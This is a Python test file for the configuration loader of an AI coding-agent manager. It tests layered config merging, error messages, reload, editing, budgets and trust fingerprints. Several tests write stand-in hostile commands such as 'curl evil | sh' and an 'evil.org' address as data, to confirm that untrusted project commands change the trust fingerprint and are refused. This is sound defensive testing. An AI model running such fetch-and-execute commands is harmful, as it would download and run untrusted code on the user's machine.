import json
import os
from collections.abc import Callable
from datetime import UTC, datetime, time
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from agents_manager import settings
from agents_manager.agents.config import CommandConfig
from agents_manager.domain.cost import Price
from agents_manager.domain.ids import ProjectId
from agents_manager.domain.reminder import QuietHours, Reminders
from agents_manager.domain.run_settings import Overrides
from agents_manager.domain.task import Project
from agents_manager.errors import Conflict, InvalidConfig, InvalidInput
from agents_manager.settings import ConfigFiles, Settings
from tests.contract.store_values import a_run

Write = Callable[[Any], Path]


@pytest.fixture
def project(tmp_path: Path) -> Project:
    folder = tmp_path / "shop"
    (folder / settings.PROJECT_FOLDER).mkdir(parents=True)
    return Project(
        id=ProjectId("p"),
        name="shop",
        path=str(folder),
        base_branch="main",
        trusted_commands=None,
        consented_at=None,
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
    )


@pytest.fixture
def files(tmp_path: Path) -> ConfigFiles:
    (tmp_path / "home").mkdir()
    return ConfigFiles(tmp_path / "home")


def _write(path: Path, value: Any) -> Path:
    text = value if isinstance(value, str) else json.dumps(value, indent=2)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def write_home(tmp_path: Path) -> Write:
    return lambda value: _write(tmp_path / "home" / "config.json", value)


@pytest.fixture
def write_project(project: Project) -> Write:
    path = Path(project.path) / settings.PROJECT_FOLDER / "config.json"
    return lambda value: _write(path, value)


def faults(files: ConfigFiles, project: Project) -> tuple[str, list[str]]:
    with pytest.raises(InvalidConfig) as caught:
        files.config(project)
    return caught.value.message, list(caught.value.details)


# ------------------------------------------------------------------------------------- layers


def test_without_files_there_are_defaults(files: ConfigFiles, project: Project) -> None:
    config = files.of(project)
    assert (config.default_agent, config.default_pipeline) == ("claude-code", "feature")
    assert config.branch_prefix == "agent/"
    assert [(c.name, c.command, c.modes) for c in config.checks] == [("no-secrets", None, ("*",))]
    assert (config.fail_on_error, config.fail_on_warning, config.max_fix_rounds) == (True, False, 3)
    assert config.instructions == ""
    assert files.config(None) == files.config(project)


def test_the_project_wins_over_the_home_key_by_key(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    write_home(
        {
            "branchPrefix": "bot/",
            "defaultPipeline": "simple",
            "agents": {"scripted": {"model": "a", "timeout": 1000}},
        }
    )
    write_project({"branchPrefix": "robot/", "agents": {"scripted": {"model": "b"}}})
    config = files.config(project)
    assert (config.branch_prefix, config.default_pipeline) == ("robot/", "simple")
    assert (config.agents["scripted"].model, config.agents["scripted"].timeout_ms) == ("b", 1000)
    assert files.config(None).branch_prefix == "bot/"
    assert files.agents(project) == config.agents


def test_checks_have_their_modes_and_the_disabled_are_left_out(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    write_project(
        {
            "checks": {
                "test": {"command": "make test", "timeout": 1500},
                "lint": {"command": "make lint", "modes": ["implement", "plan"]},
                "slow": {"command": "make all", "enabled": False},
                "no-secrets": {"severity": "warning"},
            }
        }
    )
    secrets, *own = files.of(project).checks
    assert [(c.name, c.command, c.timeout_s) for c in own] == [
        ("test", "make test", 1.5),
        ("lint", "make lint", 120.0),
    ]
    assert [c.follows("plan") for c in (secrets, *own)] == [True, False, True]
    assert secrets.severity == "warning"
    write_project({"checks": {"no-secrets": {"enabled": False}}})
    assert files.of(project).checks == ()


def test_every_check_but_the_search_for_secrets_has_a_command(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    write_project({"checks": {"test": {}}})
    assert faults(files, project)[1] == ['checks: the check "test" needs a command']
    write_project({"checks": {"no-secrets": {"command": "true"}}})
    assert "no-secrets takes no command" in faults(files, project)[1][0]
    write_project({"checks": {"no-secrets": True}})
    assert faults(files, project)[1][0].startswith("line 3, checks.no-secrets:")


def test_the_fingerprint_changes_with_the_commands_and_with_nothing_else(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    def print_of(**check: Any) -> str:
        write_project({"checks": {"test": {"command": "make test", **check}}})
        return files.of(project).commands_fingerprint

    first = print_of()
    assert print_of(timeout=77) == first
    write_project({"checks": {"no-secrets": {"enabled": False}, "test": {"command": "make test"}}})
    assert files.of(project).commands_fingerprint == first, "it has no command to trust"
    assert print_of(command="curl evil | sh") != first
    assert print_of(enabled=False) != first


def test_instructions_are_read_from_the_project(files: ConfigFiles, project: Project) -> None:
    path = Path(project.path) / settings.PROJECT_FOLDER / "instructions.md"
    path.write_text("Use tabs.", encoding="utf-8")
    assert files.of(project).instructions == "Use tabs."
    path.write_bytes(b"\xff\xfe")
    trouble = files.trouble(project)
    assert trouble
    assert "instructions.md is not UTF-8 text" in trouble.message
    assert files.of(project).instructions == "Use tabs."


# ------------------------------------------------------------------------------------- faults


@pytest.mark.parametrize(
    ("value", "line", "place", "known"),
    [
        ({"branchPrefx": "x"}, 2, "branchPrefx", "branchPrefix"),
        ({"defaultPipeline": "a", "branch_prefix_": 1}, 3, "branch_prefix_", "branchPrefix"),
        ({"checks": {"test": {"comand": "x", "command": "y"}}}, 4, "checks.test.comand", "command"),
        ({"agents": {"scripted": {"modle": "x"}}}, 4, "agents.scripted.modle", "model"),
        ({"limits": {"hots": 3}}, 3, "limits.hots", "host"),
        ({"prices": {"gpt-5.1": {"inptu": 1}}}, 4, "prices.gpt-5.1.inptu", "input"),
        ({"prices": {"m": {"cacheRaed": 1}}}, 4, "prices.m.cacheRaed", "cacheRead"),
        (
            {"agents": {"mine": {"adapter": "command", "command": ["x"], "evn": []}}},
            *(8, "agents.mine.evn", "env"),
        ),
    ],
)
def test_an_unknown_key_is_told_with_file_line_key_and_closest(
    files: ConfigFiles,
    project: Project,
    write_project: Write,
    value: Any,
    line: int,
    place: str,
    known: str,
) -> None:
    path = write_project(value)
    message, details = faults(files, project)
    key = place.split(".")[-1]
    assert message == f"{path} has errors."
    expected = f'line {line}, {place}: there is no key "{key}". Did you mean "{known}"?'
    assert details == [expected]


@pytest.mark.parametrize(
    ("agent", "place", "fault"),
    [
        ({"adapter": "comand"}, "", 'there is no adapter "comand". Did you mean "command"?'),
        ({"adapter": "command", "command": []}, ".command", "at least 1 item"),
        ({"adapter": "command", "command": "x"}, ".command", "valid tuple"),
        (
            {"adapter": "command", "command": ["x", "{promt}"]},
            ".command.1",
            'there is no placeholder "promt". Did you mean "prompt"?',
        ),
        (
            {"adapter": "command", "command": ["x"], "env": ["AM_HOME"]},
            ".env.0",
            '"AM_HOME" belongs to Agents Manager and is not passed on',
        ),
        ({"adapter": "command", "command": ["x"], "env": ["A=b"]}, ".env.0", '"A=b" cannot be'),
        ({"adapter": "scripted", "command": ["x"]}, ".command", 'there is no key "command"'),
    ],
)
def test_a_fault_of_an_agent_is_told_with_its_place(
    files: ConfigFiles, project: Project, write_project: Write, agent: Any, place: str, fault: str
) -> None:
    write_project({"agents": {"mine": agent}})
    _, [detail] = faults(files, project)
    assert f", agents.mine{place}: " in detail
    assert fault in detail


def test_an_agent_without_an_adapter_may_have_it_in_another_layer(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    write_project({"agents": {"mine": {"timeout": 5}}})
    message, details = faults(files, project)
    assert message.endswith("have errors together.")
    known = "scripted, command, claude-code, codex, acp"
    assert details == [f'agents.mine: its "adapter" is missing: one of {known}.']
    write_home({"agents": {"mine": {"adapter": "command", "command": ["x"]}}})
    assert files.agents(project)["mine"].timeout_ms == 5


def test_a_program_is_looked_for_from_the_folder_that_its_file_speaks_for(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write, tmp_path: Path
) -> None:
    def program(name: str) -> str:
        found = files.agents(project)[name]
        assert isinstance(found, CommandConfig)
        return found.command[0]

    def agent(program: str) -> dict[str, Any]:
        return {"adapter": "command", "command": [program, "./kept"]}

    write_home({"agents": {"a": agent("./a.sh"), "b": agent("plain"), "c": agent("/x/y")}})
    write_project({"agents": {"d": agent("tools/d.sh"), "e": agent("~/e")}})
    assert program("a") == str(tmp_path / "home" / "a.sh")
    assert (program("b"), program("c")) == ("plain", "/x/y")
    assert program("d") == f"{project.path}/tools/d.sh"
    assert program("e") == str(Path("~/e").expanduser())


def test_trust_covers_what_a_projects_own_file_says_about_programs(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    def print_of(**agent: Any) -> str:
        write_project({"agents": {"mine": {"adapter": "command", "command": ["a"], **agent}}})
        return files.of(project).commands_fingerprint

    none = files.of(project).commands_fingerprint
    write_home({"agents": {"theirs": {"adapter": "command", "command": ["b"]}}})
    assert files.of(project).commands_fingerprint == none
    assert files.of(project).own_agents == {}
    first = print_of()
    assert list(files.of(project).own_agents) == ["mine"]
    assert print_of(timeout=77) == first
    assert len({none, first, print_of(command=["evil"]), print_of(env=["KEY"])}) == 4
    write_project({"agents": {"claude-code": {"gateway": False}}})
    assert files.of(project).own_agents == {"claude-code": {"gateway": False}}


def test_a_wrong_value_is_told_with_its_line(
    files: ConfigFiles, project: Project, write_home: Write
) -> None:
    write_home({"autoCommit": True, "limits": {"host": 0}})
    _, details = faults(files, project)
    assert details == ["line 4, limits.host: Input should be greater than 0"]


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ('{"a": 1,\n  "b": ', "is not valid JSON: Expecting value at line 2"),
        ("", "is not valid JSON"),
        ('{"branchPrefix": "a", "branchPrefix": "b"}', "stands there twice"),
        ("[]", "must hold an object"),
        ('"' + "x" * settings.MAX_FILE_BYTES + '"', "has 1048578 bytes; 1048576 are read at most"),
        ('{"a":' * 30 + "1" + "}" * 30, "nested deeper than 20 levels"),
    ],
)
def test_a_broken_file_is_named(
    files: ConfigFiles, project: Project, write_project: Write, text: str, fault: str
) -> None:
    path = write_project(text)
    message, _ = faults(files, project)
    assert message.startswith(str(path))
    assert fault in message


def test_a_folder_in_its_place_is_told(files: ConfigFiles, project: Project) -> None:
    (Path(project.path) / settings.PROJECT_FOLDER / "config.json").mkdir()
    assert "config.json is not a file" in faults(files, project)[0]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("name", ["config.json", "instructions.md"])
def test_a_link_to_something_endless_is_not_followed(
    files: ConfigFiles, project: Project, tmp_path: Path, name: str
) -> None:
    """A pipe that nobody writes to stands for all of them: reading it would never end."""
    os.mkfifo(tmp_path / "pipe")
    path = Path(project.path) / settings.PROJECT_FOLDER / name
    path.symlink_to(tmp_path / "pipe")
    with pytest.raises(InvalidConfig, match=f"{name} is not a file"):
        files.of(project)


def test_instructions_are_bounded(files: ConfigFiles, project: Project) -> None:
    path = Path(project.path) / settings.PROJECT_FOLDER / "instructions.md"
    path.write_text("x" * (settings.MAX_FILE_BYTES + 1))
    with pytest.raises(InvalidConfig, match=r"instructions.md has 1048577 bytes"):
        files.of(project)


# ------------------------------------------------------------------------------------- reload


def test_an_edit_is_noticed_and_so_is_its_end(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    path = write_project({"branchPrefix": "one/"})
    assert files.config(project).branch_prefix == "one/"
    write_project({"branchPrefix": "two/"})
    stamp = path.stat().st_mtime_ns + 1_000_000
    os.utime(path, ns=(stamp, stamp))
    assert files.config(project).branch_prefix == "two/"
    path.unlink()
    assert files.config(project).branch_prefix == "agent/"


def test_a_mended_file_is_read_again(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    write_project({"branchPrefx": "x"})
    faults(files, project)
    write_project({"branchPrefix": "mended/"})
    assert files.config(project).branch_prefix == "mended/"


# -------------------------------------------------------------------------------- environment


def test_the_environment_says_where_the_data_lies(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("AM_HOME", raising=False)
    monkeypatch.delenv("AM_DATABASE_URL", raising=False)
    home = tmp_path / ".agents-manager"
    assert settings.from_environment() == Settings(home, None)
    assert settings.from_environment().database == home / "agents-manager.db"
    monkeypatch.setenv("AM_HOME", "~/elsewhere")
    monkeypatch.setenv("AM_DATABASE_URL", "postgresql://x/y")
    found = settings.from_environment()
    assert (found.home, found.database) == (tmp_path / "elsewhere", "postgresql://x/y")
    monkeypatch.setenv("AM_HOME", "here")
    assert settings.from_environment().home.is_absolute()


def test_the_user_has_a_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("USER", "ann")
    assert settings.user_name() == "ann"
    monkeypatch.delenv("USER")
    monkeypatch.delenv("LOGNAME", raising=False)
    assert settings.user_name() == "admin"


def test_a_layer_may_change_a_part_of_what_another_says(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    home = write_home({"checks": {"test": {"command": "make test"}}})
    write_project({"checks": {"test": {"enabled": False}}})
    config = files.config(project)
    assert config.checks["test"].command == "make test"
    assert not config.checks["test"].enabled
    write_project({"checks": {"test": {"severity": "warning"}}})
    assert files.config(project).checks["test"].command == "make test"
    home.unlink()
    trouble = files.trouble(project)
    assert trouble
    assert trouble.message.endswith("have errors together.")
    assert trouble.details == ('checks: the check "test" needs a command',)


# ------------------------------------------------------------------------------------- reminders


def test_reminders_are_daily_unless_said_otherwise(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    assert files.of(project).reminders == Reminders(every_s=86_400, quiet=None)
    write_home({"quietHours": {"from": "22:00", "to": "07:30", "zone": "Asia/Tokyo"}})
    write_project({"reminders": {"everyHours": 0.5}, "quietHours": {"from": "21:00"}})
    found = files.of(project).reminders
    assert found.every_s == 1800
    quiet = QuietHours(start=time(21), end=time(7, 30), zone=ZoneInfo("Asia/Tokyo"))
    assert found.quiet == quiet
    write_project({"reminders": {"enabled": False}, "quietHours": None})
    assert files.of(project).reminders == Reminders(every_s=None, quiet=None)


@pytest.mark.parametrize(
    ("config", "said"),
    [
        ({"reminders": {"everyHours": 0}}, "reminders.everyHours: "),
        ({"reminders": {"everyHours": "daily"}}, "reminders.everyHours: "),
        ({"reminders": {"every": 1}}, 'there is no key "every". Did you mean "everyHours"?'),
        ({"reminders": 24}, "reminders: "),
        (
            {"quietHours": {"from": "22", "to": "07:00"}},
            '"22" is no time of day; write it as HH:MM',
        ),
        ({"quietHours": {"from": "22:00", "to": "24:00"}}, '"24:00" is no time of day'),
        ({"quietHours": {"from": "22:00", "to": "\u06607:00"}}, "is no time of day"),
        ({"quietHours": {"from": "22:00", "to": "22:00"}}, "begin and end at the same time"),
        (
            {"quietHours": {"from": "22:00", "to": "07:00", "zone": "Europe/Berln"}},
            'there is no time zone "Europe/Berln". Did you mean "Europe/Berlin"?',
        ),
        ({"quietHours": {"from": "1:00", "to": "07:00", "zone": "../etc"}}, "no time zone"),
        ({"quietHours": {"from": "01:00", "to": "07:00", "zone": "Europe"}}, "no time zone"),
        ({"quietHours": {"from": "01:00", "to": "07:00", "zone": ""}}, "no time zone"),
        ({"quietHours": {"form": "01:00", "to": "07:00"}}, 'Did you mean "from"?'),
    ],
)
def test_wrong_reminders_are_refused_with_their_place(
    files: ConfigFiles, project: Project, write_project: Write, config: Any, said: str
) -> None:
    write_project(config)
    _, details = faults(files, project)
    assert any(said in line for line in details), details


def test_every_value_is_told_with_the_layer_file_and_line_it_comes_from(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    home = write_home({"branchPrefix": "x/", "limits": {"host": 3}, "fail_on_error": False})
    own = write_project({"checks": {"test": {"command": "true"}}, "branchPrefix": "y/"})
    told = {s.key: (s.value, s.layer, s.file, s.line) for s in files.explain(project)}
    assert told["branchPrefix"] == ("y/", "project", own, 7)
    assert told["limits.host"] == (3, "user", home, 4)
    assert told["failOnError"] == (False, "user", home, 6)
    assert told["checks.test.command"] == ("true", "project", own, 4)
    assert told["checks.test.timeout"] == (120_000, "default", None, None)
    assert told["agents.claude-code.timeout"] == (600_000, "adapter default", None, None)
    assert "agents.claude-code.autoCommit" not in told
    alone = {s.key: (s.value, s.layer) for s in files.explain(None)}
    assert alone["branchPrefix"] == ("x/", "user")
    write_project({"chekcs": {}})
    assert {s.key: (s.value, s.layer, s.file, s.line) for s in files.explain(project)} == told
    with pytest.raises(InvalidConfig, match="has errors"):
        ConfigFiles(home.parent).explain(project)


# ----------------------------------------------------------------------------------- live reload


def test_a_file_that_breaks_leaves_in_force_what_it_said(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    path = write_project({"branchPrefix": "good/", "checks": {"test": {"command": "true"}}})
    good = files.of(project)
    assert files.trouble(project) is None
    whole = path.read_text()
    for torn in range(len(whole.rstrip())):
        path.write_text(whole[:torn])
        assert files.of(project) == good
        trouble = files.trouble(project)
        assert trouble, torn
        assert trouble.kept
        assert str(path) in trouble.message
    path.write_text(whole.replace("good/", "new/"))
    assert files.of(project).branch_prefix == "new/"
    assert files.trouble(project) is None


def test_a_file_that_was_never_sound_is_refused(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    write_project({"chekcs": {}})
    trouble = files.trouble(project)
    assert trouble
    assert not trouble.kept
    assert trouble.details == ('line 2, chekcs: there is no key "chekcs". Did you mean "checks"?',)
    with pytest.raises(InvalidConfig):
        files.of(project)


def test_a_change_of_the_same_size_at_the_same_time_is_seen(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    path = write_project({"branchPrefix": "a/"})
    assert files.of(project).branch_prefix == "a/"
    times = path.stat().st_mtime_ns
    path.write_text(path.read_text().replace("a/", "b/"))
    os.utime(path, ns=(times, times))
    assert files.of(project).branch_prefix == "b/"


# --------------------------------------------------------------------------------- agents and runs


def test_an_agent_wins_over_the_project_and_a_run_over_its_agent(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    write_home({"agents": {"codex": {"autoCommit": True, "timeout": 1000, "baseBranch": "next"}}})
    write_project(
        {
            "defaultAgentType": "codex",
            "setup": ["npm ci"],
            "autoCommit": False,
            "branchPrefix": "p/",
            "agents": {"codex": {"maxTurns": 7, "branchPrefix": "c/"}},
        }
    )
    default = files.of(project)
    assert (default.auto_commit, default.base_branch) == (True, "next")
    assert (default.branch_prefix, default.setup.commands) == ("c/", ("npm ci",))
    other = files.of(project, a_run(agent="scripted"))
    assert (other.auto_commit, other.branch_prefix, other.base_branch) == (False, "p/", None)
    set_for = Overrides(hook={"model": "h", "timeout": 2}, run={"model": "r", "installDeps": False})
    run = a_run(agent="codex", overrides=set_for)
    assert files.of(project, run).setup.commands == ()
    told = {one.key: (one.value, one.layer) for one in files.of_run(project, run)}
    assert told == {
        "model": ("r", "run"),
        "timeout": (2, "hook"),
        "silenceTimeout": (None, "adapter default"),
        "maxTurns": (7, "project"),
        "outputBytes": (200 * 1024 * 1024, "adapter default"),
        "systemPrompt": (None, "adapter default"),
        "autoCommit": (True, "user"),
        "rebaseOnStart": (False, "default"),
        "preserveUncommitted": (True, "default"),
        "installDeps": (False, "run"),
    }


def test_what_is_not_run_now_is_trusted_all_the_same(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    """Else a run that is told to install would run what nobody trusted."""
    write_project({"installDeps": False})
    before = files.of(project).commands_fingerprint
    write_project({"installDeps": False, "setup": ["curl evil"]})
    changed = files.of(project)
    assert changed.setup.commands == ()
    assert changed.commands == {"setup.1": "curl evil"}
    assert changed.commands_fingerprint != before


@pytest.mark.parametrize(
    ("config", "said"),
    [
        (
            {"sandbox": {"level": "strong"}},
            "sandbox.level: Input should be 'auto', 'S3', 'S2', 'S1' or 'none'",
        ),
        ({"notifications": {"slack": {"enable": True}}}, 'Did you mean "enabled"?'),
        (
            {"notifications": {"slack": {"events": ["quesiton"]}}},
            "notifications.slack.events.0: Input should be 'question'",
        ),
        (
            {"notifications": {"telegram": {"people": {"@ann": {"name": "ann"}}}}},
            '"@ann" is no id of Telegram; it is a number, as names change hands',
        ),
        (
            {"notifications": {"slack": {"people": {"U1": {"name": "a", "role": "Boss!"}}}}},
            '"Boss!" is no role',
        ),
        ({"notifications": {"webhook": {"url": "ftp://x"}}}, '"ftp://x" is no address'),
        ({"notifications": {"slack": {"baseUrl": "http://x.example"}}}, "is no address"),
        ({"notifications": {"digest": {"at": "8:00"}}}, '"8:00" is no time of day'),
        ({"notifications": {"webUrl": "manager"}}, '"manager" is no address'),
        ({"notifications": {"telegramm": {}}}, 'Did you mean "telegram"?'),
        ({"roles": {"plan": {"modell": "deep"}}}, 'Did you mean "model"?'),
        ({"forge": {"type": "gitlab"}}, "forge.type: Input should be 'local' or 'github'"),
        ({"forge": {"baseUrl": "https://evil.org"}}, "line 3, forge.baseUrl: it is for the whole"),
        ({"forge": {"repository": "shop"}}, '"shop" is no repository; write it as owner/name'),
        ({"forge": {"repository": "acme/.."}}, '"acme/.." is no repository'),
        ({"forge": {"pollSeconds": 1}}, "forge.pollSeconds: Input should be greater than"),
        ({"limits": {"host": 2}}, "line 3, limits.host: it is for the whole machine and"),
        ({"limits": {"projct": 2}}, 'Did you mean "project"?'),
        ({"review": {"assumeAproved": True}}, 'Did you mean "assumeApproved"?'),
    ],
)
def test_what_does_nothing_is_not_taken(
    files: ConfigFiles, project: Project, write_project: Write, config: Any, said: str
) -> None:
    write_project(config)
    _, details = faults(files, project)
    assert said in details[0]


@pytest.mark.parametrize(
    "url",
    ["http://git.corp/api/v3", "https://ann:x@git.corp", "https:///x", "ftp://h", "https://h/?a=b"],
)
def test_a_token_is_sent_to_safe_addresses_only(
    files: ConfigFiles, project: Project, write_home: Write, url: str
) -> None:
    write_home({"forge": {"baseUrl": url}})
    _, details = faults(files, project)
    assert f'"{url}" is no address; write it as https://HOST/api/v3' in details[0]


# --------------------------------------------------------------------------------------- editing


def test_a_value_is_set_and_everything_else_left_as_it_was(
    files: ConfigFiles, project: Project
) -> None:
    path = Path(project.path) / settings.PROJECT_FOLDER / "config.json"
    text = '{ "agents": {"codex": {"maxTurns": 5}},\n\n  "setup": ["a",   "b"] }\n'
    path.write_text(text)
    edit = files.edited(project, "agents.codex.model", "gpt-5")
    assert edit.before == text
    assert path.read_text() == text
    settings.write(edit)
    assert path.read_text() == text.replace('"maxTurns": 5', '"maxTurns": 5, "model": "gpt-5"')
    assert files.of(project).setup.commands == ("a", "b")
    settings.write(files.edited(project, "agents.codex.model", None))
    assert path.read_text() == text
    settings.write(files.edited(project, 'prices."gpt-4.1"', '{"input": 2, "output": 8}'))
    settings.write(files.edited(project, 'prices."gpt-4.1".input', "2.5"))
    assert files.of(project).prices["gpt-4.1"].input == 2.5


def test_words_are_read_as_the_key_needs_them(files: ConfigFiles, project: Project) -> None:
    def after(key: str, raw: str) -> Any:
        return json.loads(files.edited(project, key, raw).after)

    assert after("autoCommit", "false") == {"autoCommit": False}
    assert after("agents.codex.model", "5") == {"agents": {"codex": {"model": "5"}}}
    assert after("setup", '["npm ci"]') == {"setup": ["npm ci"]}
    assert after("defaultPipeline", "bug") == {"defaultPipeline": "bug"}


@pytest.mark.parametrize(
    ("key", "raw", "said"),
    [
        ("autoComit", "true", 'Did you mean "autoCommit"?'),
        ("autoCommit", "perhaps", "autoCommit: Input should be a valid boolean"),
        ("agents.mine.model", "x", 'its "adapter" is missing'),
        ("limits.host", "2", "it is for the whole machine"),
    ],
)
def test_a_change_that_would_break_the_file_is_refused(
    files: ConfigFiles, project: Project, key: str, raw: str, said: str
) -> None:
    with pytest.raises(InvalidConfig) as caught:
        files.edited(project, key, raw)
    assert said in caught.value.details[0]
    assert not (Path(project.path) / settings.PROJECT_FOLDER / "config.json").exists()


def test_what_is_not_there_cannot_be_taken_out(files: ConfigFiles, project: Project) -> None:
    with pytest.raises(InvalidInput, match='says nothing about "autoCommit"'):
        files.edited(project, "autoCommit", None)
    with pytest.raises(InvalidInput, match="is no key"):
        files.edited(project, "a..b", "1")


def test_a_file_that_changed_since_it_was_shown_is_not_written(
    files: ConfigFiles, project: Project, write_project: Write
) -> None:
    edit = files.edited(project, "autoCommit", "false")
    path = write_project({"branchPrefix": "mine/"})
    kept = path.read_text()
    with pytest.raises(Conflict, match="changed in the meantime"):
        settings.write(edit)
    assert path.read_text() == kept
    assert [f.name for f in path.parent.iterdir()] == ["config.json"]


# -------------------------------------------------------------------------------------- prices


def test_prices_of_models_are_merged_key_by_key(
    files: ConfigFiles, project: Project, write_home: Write, write_project: Write
) -> None:
    assert files.of(project).prices == {}
    write_home({"prices": {"m": {"input": 1, "output": 2.5}, "gpt-5.1": {"input": 0, "output": 0}}})
    write_project({"prices": {"m": {"input": 3, "cacheRead": 0.1}}})
    prices = files.of(project).prices
    assert prices["m"] == Price(input=3, output=2.5, cache_read=0.1)
    assert prices["gpt-5.1"].output == 0


@pytest.mark.parametrize(
    ("price", "said"),
    [
        ({"input": -1, "output": 1}, "line 4, prices.m.input: Input should be greater than or"),
        ({"output": "3", "input": 1}, "line 4, prices.m.output: Input should be a valid number"),
        ({"input": True, "output": 1}, "line 4, prices.m.input: Input should be a valid number"),
        ({"input": 1e300, "output": 1}, "line 4, prices.m.input: Input should be less than or"),
        (3, "line 3, prices.m: Input should be"),
    ],
)
def test_nonsense_prices_are_told_with_their_place(
    files: ConfigFiles, project: Project, write_home: Write, price: Any, said: str
) -> None:
    write_home({"prices": {"m": price}})
    _, details = faults(files, project)
    assert [d.startswith(said) for d in details] == [True], details


def test_no_number_and_half_a_price_are_refused(
    files: ConfigFiles, project: Project, write_home: Write
) -> None:
    write_home('{"prices": {"m": {"input": NaN, "output": 1}}}')
    assert "NaN" in faults(files, project)[0]
    write_home({"prices": {"m": {"input": 1}}})
    assert faults(files, project)[1] == ["prices.m.output: Field required"]


def test_how_long_things_are_kept(files: ConfigFiles, tmp_path: Path, project: Project) -> None:
    kept = files.retention()
    assert (kept.transcripts_days, kept.worktrees_days, kept.engine_days) == (180, 14, 30)
    assert kept.snapshots_days is kept.backups_days is kept.transcripts_mb is None
    own = tmp_path / "home" / "config.json"
    own.write_text(json.dumps({"retention": {"transcriptsDays": None, "snapshotsDays": 90}}))
    kept = files.retention()
    assert (kept.transcripts_days, kept.snapshots_days, kept.worktrees_days) == (None, 90, 14)
    # A repository cannot have its user's transcripts removed.
    theirs = Path(project.path) / settings.PROJECT_FOLDER / "config.json"
    theirs.write_text(json.dumps({"retention": {"transcriptsDays": 1}}))
    with pytest.raises(InvalidConfig) as refused:
        files.of(project)
    assert "retention: it is for the whole machine" in refused.value.details[0]


def test_where_traces_go_is_not_for_a_repository_to_say(
    files: ConfigFiles, project: Project
) -> None:
    assert files.config(None).traces.endpoint is None
    theirs = Path(project.path) / settings.PROJECT_FOLDER / "config.json"
    theirs.write_text(json.dumps({"traces": {"endpoint": "https://example.org", "content": True}}))
    with pytest.raises(InvalidConfig) as refused:
        files.of(project)
    assert "traces: it is for the whole machine" in refused.value.details[0]


def test_what_agents_work_in(files: ConfigFiles, tmp_path: Path, project: Project) -> None:
    assert files.of(project).workspace.kind == "auto"
    own = tmp_path / "home" / "config.json"
    own.write_text(json.dumps({"workspace": {"kind": "clone", "importLimitMb": 3}}))
    rules = files.of(project).workspace
    assert (rules.kind, rules.import_limit) == ("clone", 3 * 1024**2)
    # A repository cannot choose to be kept apart less.
    theirs = Path(project.path) / settings.PROJECT_FOLDER / "config.json"
    theirs.write_text(json.dumps({"workspace": {"kind": "worktree"}}))
    with pytest.raises(InvalidConfig) as refused:
        ConfigFiles(tmp_path / "home").of(project)
    assert "workspace.kind: it is for the whole machine" in refused.value.details[0]


@pytest.mark.parametrize(
    ("rules", "fault"),
    [
        ({"transcriptDays": 1}, 'no key "transcriptDays". Did you mean "transcriptsDays"?'),
        ({"snapshotsDays": 0}, "greater than or equal to 1"),
        ({"engineDays": "soon"}, "valid integer"),
        ({"transcriptsMb": -1}, "greater than or equal to 1"),
    ],
)
def test_wrong_rules_of_retention_are_refused(
    files: ConfigFiles, tmp_path: Path, rules: dict[str, Any], fault: str
) -> None:
    (tmp_path / "home" / "config.json").write_text(json.dumps({"retention": rules}))
    with pytest.raises(InvalidConfig) as refused:
        files.retention()
    assert fault in " ".join(refused.value.details)


def test_budgets_are_merged_over_the_layers(
    files: ConfigFiles, project: Project, tmp_path: Path
) -> None:
    assert files.of(project).budgets == {}
    _write(tmp_path / "home" / "config.json", {"budgets": {"runUsd": 5, "dayUsd": 100}})
    own = Path(project.path, settings.PROJECT_FOLDER, "config.json")
    _write(own, {"budgets": {"runUsd": 1.5, "dayUsd": None}})
    assert files.of(project).budgets == {"run": 1.5}


@pytest.mark.parametrize(
    ("budgets", "fault"),
    [
        ({"runUsd": 0}, "runUsd: a budget is more than 0 dollars, not 0; leave it out for no"),
        ({"dayUsd": -2}, "dayUsd: a budget is more than 0 dollars, not -2"),
        ({"taskUsd": "5"}, "taskUsd: "),
        ({"taskUsd": True}, "taskUsd: "),
        ({"taskUsd": 1e9}, "taskUsd: "),
        ({"projectUSD": 5}, 'no key "projectUSD". Did you mean "projectUsd"?'),
        (5, "budgets: "),
    ],
)
def test_wrong_budgets_are_refused(
    files: ConfigFiles, project: Project, tmp_path: Path, budgets: Any, fault: str
) -> None:
    _write(tmp_path / "home" / "config.json", {"budgets": budgets})
    with pytest.raises(InvalidConfig) as refused:
        files.of(project)
    assert fault in " ".join(refused.value.details)


def test_the_placeholder_of_am_init_is_not_sent_to_agents(
    files: ConfigFiles, project: Project
) -> None:
    path = Path(project.path) / settings.PROJECT_FOLDER / "instructions.md"
    path.write_text(settings.PLACEHOLDER, encoding="utf-8")
    assert files.of(project).instructions == ""
    path.write_text(settings.PLACEHOLDER + "Use tabs.\n", encoding="utf-8")
    assert files.of(project).instructions.endswith("Use tabs.\n")
